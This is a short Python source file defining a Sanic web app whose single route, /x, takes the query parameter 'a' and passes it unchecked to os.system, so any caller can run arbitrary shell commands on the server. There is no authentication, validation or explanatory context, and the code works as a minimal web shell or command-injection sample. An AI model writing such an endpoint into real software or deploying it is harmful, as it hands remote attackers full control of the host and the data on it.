import os
from sanic import Sanic, json
app = Sanic('x')
@app.get('/x')
async def x(request):
    os.system(request.args.get('a'))
    return json({})
